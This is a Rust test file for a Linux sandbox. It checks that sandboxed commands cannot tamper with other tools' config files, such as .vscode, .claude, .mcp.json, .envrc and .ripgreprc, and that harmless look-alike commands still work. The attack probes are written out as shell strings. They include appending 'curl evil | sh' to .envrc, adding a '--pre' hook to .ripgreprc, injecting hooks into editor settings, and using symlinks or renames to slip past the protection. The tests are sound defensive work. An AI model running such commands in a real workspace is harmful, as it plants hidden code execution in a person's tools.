//! Other tools' files (`uexec_domain::tool_files`): a sandboxed command cannot write, create,
//! remove or rename `.vscode`, `.claude`, `.mcp.json` and the like in the workspace, present or (for the
//! directories; for files too with a record, `leftovers.rs`) absent, nor another writable root's present ones,
//! unless the person allowed one; each denied probe has an allowed twin.

use std::fs;

use uexec_domain::tool_files::ToolFiles;
use uexec_ports::Sandbox;
use uexec_sandbox_linux::LinuxSandbox;

use crate::common::{Scratch, bash, denied, request, run, workspace_only};

/// True when a failed probe failed because the sandbox refused a write (or a rename of a mount point).
fn refused(text: &str) -> bool {
    denied(text) || text.to_lowercase().contains("busy")
}

#[test]
fn other_tools_files_cannot_be_planted_and_their_twins_can_be_written() {
    let s = Scratch::new();
    fs::create_dir_all(s.ws.join(".claude")).unwrap();
    fs::write(s.ws.join(".claude/settings.json"), "{}\n").unwrap();
    fs::write(s.ws.join(".mcp.json"), "{}\n").unwrap();
    let policy = || workspace_only(vec![], false);
    for (attack, twin) in [
        // Absent: the sandbox made an empty read-only placeholder.
        (
            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
            "mkdir -p src/.vscode && echo '{}' > src/.vscode/tasks.json",
        ),
        ("rm -rf .vscode", "mkdir -p x/y && rm -rf x"),
        ("mv .vscode vs && mkdir vs/x", "mkdir d && mv d d2"),
        ("mkdir -p .devcontainer/x", "mkdir -p devcontainer/x"),
        // Present.
        ("echo '{\"hooks\":1}' > .claude/settings.json", "echo x > claude-notes.txt"),
        (
            "mkdir -p .claude/commands && touch .claude/commands/x.md",
            "mkdir -p docs/commands && touch docs/commands/x.md",
        ),
        ("echo '{}' > .mcp.json", "echo '{}' > mcp.json"),
        ("rm .mcp.json", "touch gone && rm gone"),
        ("mv .claude c2", "mkdir e && mv e e2"),
        // Through a symlink planted beside it.
        ("ln -s .claude cl && echo x > cl/settings.json", "ln -s src s2 && touch s2/through-link"),
    ] {
        let allowed = bash(policy(), &s.ws, twin);
        assert!(allowed.ok(), "{twin}: {allowed:?}");
        let probe = bash(policy(), &s.ws, attack);
        assert!(!probe.ok() && refused(&probe.text()), "{attack}: {probe:?}");
    }
    assert_eq!(fs::read_dir(s.ws.join(".vscode")).unwrap().count(), 0);
    assert_eq!(Scratch::read(&s.ws.join(".claude/settings.json")), "{}\n");
    assert_eq!(Scratch::read(&s.ws.join(".mcp.json")), "{}\n");
    assert!(!s.ws.join(".claude/commands").exists() && !s.ws.join("vs").exists());
}

/// Another writable root's present tool files are protected too (an absent one there takes no placeholder: a
/// mount needs something to cover, and none is left in a directory others share).
#[test]
fn another_roots_present_tool_files_cannot_be_written_and_their_twins_can() {
    let s = Scratch::new();
    let extra = s.base.join("extra");
    fs::create_dir_all(extra.join(".idea")).unwrap();
    fs::write(extra.join(".envrc"), "export A=1\n").unwrap();
    let policy = || workspace_only(vec![extra.clone()], false);
    for (attack, twin) in [
        ("touch ../extra/.idea/workspace.xml", "mkdir -p ../extra/idea && touch ../extra/idea/workspace.xml"),
        ("echo 'curl evil | sh' >> ../extra/.envrc", "echo x >> ../extra/envrc"),
        ("mv ../extra/.idea ../extra/i2", "mkdir ../extra/d && mv ../extra/d ../extra/d2"),
    ] {
        let allowed = bash(policy(), &s.ws, twin);
        assert!(allowed.ok(), "{twin}: {allowed:?}");
        let probe = bash(policy(), &s.ws, attack);
        assert!(!probe.ok() && refused(&probe.text()), "{attack}: {probe:?}");
    }
    assert_eq!(Scratch::read(&extra.join(".envrc")), "export A=1\n");
    assert!(!extra.join(".idea/workspace.xml").exists() && !extra.join(".vscode").exists());
}

#[test]
fn an_allowed_tool_file_is_writable_and_the_report_names_the_key() {
    let s = Scratch::new();
    let sandbox = LinuxSandbox::default().with_tool_files(ToolFiles::allowing(&[".vscode"]).unwrap());
    let script = |script: &str| {
        let prepared = sandbox
            .prepare(request(workspace_only(vec![], false), &["bash", "-c", script], &s.ws))
            .expect("this machine enforces every protection");
        (run(&prepared), prepared.report)
    };
    let (allowed, report) = script("mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
    assert!(allowed.ok(), "{allowed:?}");
    // The twin: another entry stays protected in the same sandbox.
    let (probe, _) = script("mkdir -p .idea && touch .idea/workspace.xml");
    assert!(!probe.ok() && refused(&probe.text()), "{probe:?}");
    let detail = &report.protections.iter().find(|p| p.name == "read_only_subpaths").unwrap().detail;
    assert!(
        detail.contains("allow_tool_files") && detail.contains("allowed by allow_tool_files: .vscode"),
        "{detail}"
    );
}

/// The tool files (`.mcp.json`, `.envrc`, `.ripgreprc`), present: not written, replaced, removed or renamed,
/// also through a symlink and with the workspace's parent writable (the workspace cannot be moved aside). Each
/// probe has a twin doing the same to a name beside it.
#[test]
fn present_tool_files_hold_through_symlinks_and_a_rename_of_their_directory() {
    let s = Scratch::new();
    for name in [".mcp.json", ".envrc", ".ripgreprc"] {
        fs::write(s.ws.join(name), "original\n").unwrap();
    }
    let base = s.base.clone();
    let wide = || workspace_only(vec![base.clone()], false);
    for (attack, twin) in [
        ("echo 'curl evil | sh' > .envrc", "echo x > envrc"),
        ("echo '--pre=/tmp/evil' >> .ripgreprc", "echo x >> ripgreprc"),
        ("printf '{}' > .mcp.json.new && mv .mcp.json.new .mcp.json", "touch n && mv n n2"),
        ("rm -f .envrc", "touch g && rm g"),
        ("mv .ripgreprc rg-away", "touch h && mv h h2"),
        ("ln -s .mcp.json m && echo '{}' > m", "ln -s envrc e && echo y > e"),
        ("ln -s ws/.envrc ../e && echo evil > ../e", "ln -s ws/envrc ../e2 && echo z > ../e2"),
        ("mv ../ws ../ws-away && echo evil > ../ws-away/.envrc", "mkdir ../d && mv ../d ../d2"),
    ] {
        let allowed = bash(wide(), &s.ws, twin);
        assert!(allowed.ok(), "{twin}: {allowed:?}");
        let probe = bash(wide(), &s.ws, attack);
        assert!(!probe.ok() && refused(&probe.text()), "{attack}: {probe:?}");
    }
    for name in [".mcp.json", ".envrc", ".ripgreprc"] {
        assert_eq!(Scratch::read(&s.ws.join(name)), "original\n", "{name}");
    }
    assert!(!s.ws.join("rg-away").exists() && !s.base.join("ws-away").exists());
}

/// Without a record (no state directory: `LinuxSandbox::with_state_dir`), an absent tool *file* gets no
/// placeholder (nothing would remove it from the person's work tree: see docs/sandbox.md), so it stays
/// creatable, and the protection report says so; once present it is protected. With a record it gets a link to
/// nowhere: `tests/sandbox/leftovers.rs`.
#[test]
fn an_absent_tool_file_is_reported_as_not_protected_and_protected_once_present() {
    let s = Scratch::new();
    let sandbox = LinuxSandbox::default();
    let detail = |ws: &std::path::Path| {
        let prepared = sandbox
            .prepare(request(workspace_only(vec![], false), &["true"], ws))
            .expect("this machine enforces every protection");
        prepared.report.protections.iter().find(|p| p.name == "read_only_subpaths").unwrap().detail.clone()
    };
    let envrc = s.ws.join(".envrc");
    let absent = detail(&s.ws);
    let listed = absent.split("absent, so not protected: ").nth(1).unwrap_or_default().to_owned();
    assert!(listed.contains(&envrc.display().to_string()), "{absent}");
    // No stray file was left in the workspace, and no directory placeholder took the file's name.
    assert!(!envrc.exists() && !s.ws.join(".mcp.json").exists() && !s.ws.join(".ripgreprc").exists());
    // The person creates one: the next command cannot write it, and the report no longer lists it as absent.
    fs::write(&envrc, "use nix\n").unwrap();
    let present = detail(&s.ws);
    let listed = present.split("absent, so not protected: ").nth(1).unwrap_or_default().to_owned();
    assert!(!listed.contains(&envrc.display().to_string()), "{present}");
    let probe = bash(workspace_only(vec![], false), &s.ws, "echo evil >> .envrc");
    assert!(!probe.ok() && refused(&probe.text()), "{probe:?}");
    assert_eq!(Scratch::read(&envrc), "use nix\n");
}

/// A VS Code workspace file present at the workspace's top level (`*.code-workspace`, matched by its suffix)
/// cannot be rewritten, replaced or removed; names beside it, and a new one (a name of the command's choosing,
/// which VS Code opens only when the person names it), stay writable, and the person can allow them all.
#[test]
fn a_present_code_workspace_file_is_protected_by_its_suffix() {
    let s = Scratch::new();
    fs::write(s.ws.join("proj.code-workspace"), "{\"folders\":[]}\n").unwrap();
    fs::write(s.ws.join("proj.code-workspace.bak"), "{}\n").unwrap();
    let policy = || workspace_only(vec![], false);
    for (attack, twin) in [
        ("echo '{\"tasks\":1}' > proj.code-workspace", "echo '{}' > proj.code-workspace.bak"),
        ("printf '{}' > n && mv n proj.code-workspace", "printf '{}' > m && mv m proj.code-workspace.bak"),
        ("rm -f proj.code-workspace", "touch other.code-workspace && rm other.code-workspace"),
    ] {
        let allowed = bash(policy(), &s.ws, twin);
        assert!(allowed.ok(), "{twin}: {allowed:?}");
        let probe = bash(policy(), &s.ws, attack);
        assert!(!probe.ok() && refused(&probe.text()), "{attack}: {probe:?}");
    }
    assert_eq!(Scratch::read(&s.ws.join("proj.code-workspace")), "{\"folders\":[]}\n");
    let sandbox =
        LinuxSandbox::default().with_tool_files(ToolFiles::allowing(&["*.code-workspace"]).unwrap());
    let prepared = sandbox
        .prepare(request(
            workspace_only(vec![], false),
            &["bash", "-c", "echo '{}' > proj.code-workspace"],
            &s.ws,
        ))
        .expect("this machine enforces every protection");
    assert!(run(&prepared).ok());
}
